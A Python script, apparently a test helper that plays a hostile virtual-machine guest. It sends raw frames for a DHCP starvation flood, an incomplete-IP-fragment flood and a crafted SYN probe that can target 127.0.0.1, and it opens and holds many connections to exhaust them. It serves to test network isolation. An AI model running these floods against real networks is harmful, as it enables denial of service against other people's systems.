#!/usr/bin/env python3
"""Floods a hostile guest sends, as raw frames on its NIC (AF_PACKET), and connection holders.

  dhcp-flood IFNAME COUNT              DHCPDISCOVERs from COUNT made-up MACs
  frag-flood IFNAME GW_MAC SRC DST N   first fragments of N UDP datagrams that never complete
  syn IFNAME GW_MAC SRC DST PORT      one crafted SYN (any destination, 127.0.0.1 too); prints the
                                       flags of the answer ("RA", "SA") or null when none comes
  hold HOST PORT COUNT BYTES           opens COUNT connections, writes up to BYTES into each without
                                       blocking, prints {"connected", "refused", "failed", "written"}
                                       as JSON, then keeps them open until stdin closes and checks
                                       the first one still echoes (for servers that echo) if asked
Each prints one JSON line with what it did.
"""
import json
import os
import random
import select
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def ip_header(src, dst, proto, payload_len, ident, flags_frag):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + payload_len, ident, flags_frag, 64, proto, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    return h[:10] + struct.pack("!H", checksum(h)) + h[12:]


def dhcp_flood(ifname, count):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((ifname, 0))
    rng = random.Random(1)
    for i in range(count):
        mac = bytes([0x02] + [rng.randrange(256) for _ in range(5)])
        dhcp = struct.pack("!BBBBIHHIIII", 1, 1, 6, 0, rng.getrandbits(32), 0, 0x8000, 0, 0, 0, 0)
        dhcp += mac + b"\0" * 10 + b"\0" * 192 + struct.pack("!I", 0x63825363)
        dhcp += bytes([53, 1, 1, 255])
        udp = struct.pack("!HHHH", 68, 67, 8 + len(dhcp), 0) + dhcp
        ip = ip_header("0.0.0.0", "255.255.255.255", 17, len(udp), i & 0xFFFF, 0)
        s.send(b"\xff" * 6 + mac + b"\x08\x00" + ip + udp)
    print(json.dumps({"sent": count}))


def frag_flood(ifname, gw_mac, src, dst, count):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((ifname, 0))
    own = s.getsockname()[4]
    gw = bytes.fromhex(gw_mac.replace(":", ""))
    for i in range(count):
        # UDP header + 1472 bytes, more fragments set: the rest never comes.
        payload = struct.pack("!HHHH", 40000 + (i % 1000), 9, 8 + 2960, 0) + bytes(1472)
        ip = ip_header(src, dst, 17, len(payload), (0x4000 + i) & 0xFFFF, 0x2000)
        s.send(gw + own + b"\x08\x00" + ip + payload)
        # The TAP queues 1000 frames: a short breath every 200 keeps the flood from overrunning
        # it, so the frames reach the stack rather than the kernel's drop counter.
        if i % 200 == 199:
            time.sleep(0.02)
    print(json.dumps({"sent": count}))


def syn(ifname, gw_mac, src, dst, port):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    s.bind((ifname, 0))
    own = s.getsockname()[4]
    gw = bytes.fromhex(gw_mac.replace(":", ""))
    sport = random.randrange(40000, 60000)
    tcp = struct.pack("!HHIIBBHHH", sport, port, 1000, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    s.send(gw + own + b"\x08\x00" + ip_header(src, dst, 6, len(tcp), 1, 0x4000) + tcp)
    s.settimeout(0.2)
    names = {0x12: "SA", 0x14: "RA", 0x04: "R"}
    for _ in range(25):
        try:
            frame = s.recv(2048)
        except socket.timeout:
            continue
        ip = frame[14:]
        if len(ip) < 40 or ip[9] != 6:
            continue
        hl = (ip[0] & 15) * 4
        t = ip[hl:]
        if struct.unpack("!HH", t[:4]) == (port, sport):
            flags = t[13] & 0x3F
            print(json.dumps({"answer": names.get(flags, hex(flags)), "from": socket.inet_ntoa(ip[12:16])}))
            return
    print(json.dumps({"answer": None}))


def hold(host, port, count, nbytes):
    socks, refused, failed = [], 0, 0
    for _ in range(count):
        c = socket.socket()
        c.settimeout(10)
        try:
            c.connect((host, port))
            c.setblocking(False)
            socks.append(c)
        except ConnectionRefusedError:
            refused += 1
            c.close()
        except OSError:
            failed += 1
            c.close()
    written = 0
    chunk = bytes(65536)
    for c in socks:
        left = nbytes
        while left > 0:
            try:
                n = c.send(chunk[: min(left, len(chunk))])
            except (BlockingIOError, OSError):
                break
            written += n
            left -= n
    print(json.dumps({"connected": len(socks), "refused": refused, "failed": failed, "written": written}),
          flush=True)
    # Hold them until told to go; then say whether the first still carries data both ways.
    sys.stdin.readline()
    alive = None
    if socks:
        c = socks[0]
        c.setblocking(True)
        c.settimeout(10)
        try:
            c.sendall(b"ping\n")
            alive = c.recv(5) == b"ping\n"
        except OSError:
            alive = False
    print(json.dumps({"first_alive": alive}), flush=True)
    for c in socks:
        c.close()


def main():
    cmd, args = sys.argv[1], sys.argv[2:]
    if cmd == "dhcp-flood":
        dhcp_flood(args[0], int(args[1]))
    elif cmd == "frag-flood":
        frag_flood(args[0], args[1], args[2], args[3], int(args[4]))
    elif cmd == "syn":
        syn(args[0], args[1], args[2], args[3], int(args[4]))
    elif cmd == "hold":
        hold(args[0], int(args[1]), int(args[2]), int(args[3]))
    else:
        sys.exit("unknown command " + cmd)


if __name__ == "__main__":
    main()
